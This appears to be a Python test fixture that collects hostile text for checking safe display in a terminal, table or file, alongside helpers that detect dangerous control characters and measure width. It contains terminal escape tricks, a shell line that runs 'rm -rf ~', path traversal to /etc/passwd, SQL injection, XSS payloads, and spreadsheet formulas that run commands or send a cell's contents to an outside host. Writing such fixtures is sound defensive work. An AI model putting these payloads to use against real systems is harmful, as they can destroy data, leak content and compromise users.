"""Texts that want to do something, and what none of them may do to a terminal, a table or a file."""

import re
import unicodedata

#: Each kind of trick, once: nothing of these may reach a terminal as it is.
TRICKS: dict[str, str] = {
    "clear the screen": "a\x1b[2J\x1b[Hb",
    "ask for a report that is typed": "a\x1b[6nb\x1b[c",
    "set the title": "a\x1b]0;mine\x07b",
    "write the clipboard": "a\x1b]52;c;cm0gLXJmIH4=\x07b",
    "a link": "a\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\b",
    "a device string": "a\x1bPq#0\x1b\\b",
    "an application string": "a\x1b_Gf=100\x1b\\b",
    "reset": "a\x1bcb",
    "a lone escape": "a\x1b",
    "an open sequence": "a\x1b]0;x",
    "hidden colours": "a\x1b[8mhidden\x1b[0mb",
    "eight-bit escape": "a\x9b2Jb",
    "eight-bit command": "a\x9d0;x\x9cb",
    "bell": "a\x07b",
    "overstrike": "owe 5\x08\x089",
    "carriage return": "owed 900\rpaid    ",
    "delete": "a\x7fb",
    "vertical tab and form feed": "a\x0bb\x0cc",
    "next line": "a\x85b",
    "line and paragraph separators": "lines\u2028b\u2029c",
    "a line break": "first\nSecond Person   2026-01-01",
    "turned around": "pay \u202e000,1 EUR",
    "isolates": "a\u2066b\u2069",
    "embeddings": "a\u202bb\u202ac\u202c",
    "hidden tags": "a\U000e0068\U000e0069b",
    "zero width space": "An\u200bna",
    "byte order mark": "An\ufeffna",
    "soft hyphen": "An\u00adna",
    "word joiner": "a\u2060b",
    "a private sign": "a\ue000b",
    "an unassigned plane": "a\U000f0000b",
}
#: Text that means something elsewhere: it is shown to the letter.
PLAIN: dict[str, str] = {
    "bold markup": "Ann [bold]B[/bold]",
    "link markup": "[link=http://evil.example]mum[/link]",
    "closing markup": "see [/etc/passwd]",
    "lone closing markup": "x [/]",
    "action markup": "[@click=app.bell]x[/]",
    "backslash markup": "C:\\[red]x\\",
    "emoji code": "met :smile: at 10",
    "percent": "100%s %d %(x)s {0.__class__} {name}",
    "backslashes": "C:\\new\\table\\x41",
    "a formula": '=HYPERLINK("http://e/?"&A1;"x")',
    "a command formula": "=cmd|' /C calc'!A0",
    "a signed formula": "+1+1",
    "an at formula": "x@SUM(A1)",
    "a script": "<script>alert(1)</script>",
    "an image": '"><img src=x onerror=alert(1)>',
    "a path": "../../etc/passwd",
    "a shell": "$(touch pwned) `id` ; rm -rf ~",
    "sql": "Robert'); DROP TABLE contact;--",
    "wildcards": "100%_of_%",
    "full text words": 'foo-bar AND NOT "x" NEAR(a b) col:x^2*',
    "a card": "Ann;b,c:e BEGIN:VCARD",
}
#: Text that takes more or less room than it has letters.
WIDE: dict[str, str] = {
    "Chinese": "漢字" * 30,
    "a long word": "x" * 5000,
    "marks without end": "Z" + "\u0301" * 500,
    "a family": "\U0001f469\u200d\U0001f469\u200d\U0001f467 Ann",
    "flags": "\U0001f1e9\U0001f1ea" * 20,
    "Arabic": "محمد بن سلمان",
    "Hebrew": "דוד לוי",
    "Thai": "สวัสดี",
    "Persian": "می\u200cخواهم",  # noqa: RUF001
}
ALL = {**TRICKS, **PLAIN, **WIDE}

_PAINT = re.compile(r"\x1b\[[0-9;]*m")
_DANGER = (
    frozenset(map(chr, range(0x20))) - {"\n"}
    | {"\x7f", "\u2028", "\u2029", "\u200b", "\ufeff", "\xad", "\u2060"}
    | set(map(chr, range(0x80, 0xA0)))
    | set(map(chr, range(0x202A, 0x202F)))
    | set(map(chr, range(0x2066, 0x206A)))
    | set(map(chr, range(0xE0000, 0xE1000)))
)


def dangers(shown: str, *, painted: bool = False) -> list[str]:
    """Return what of a screen would act on the terminal or hide from the eye; our own colours may, where we paint."""
    text = _PAINT.sub("", shown) if painted else shown
    return sorted({f"U+{ord(char):04X}" for char in text.replace("\r\n", "\n") if char in _DANGER})


def widest(shown: str) -> int:
    """Return how many cells the widest line of a screen takes."""
    lines = _PAINT.sub("", shown).replace("\r", "").split("\n")
    return max((sum(map(_cells, line)) for line in lines), default=0)


def _cells(char: str) -> int:
    if unicodedata.combining(char) or unicodedata.category(char) in {"Mn", "Me", "Cf"} or 0xFE00 <= ord(char) <= 0xFE0F:
        return 0
    return 2 if unicodedata.east_asian_width(char) in {"W", "F"} else 1
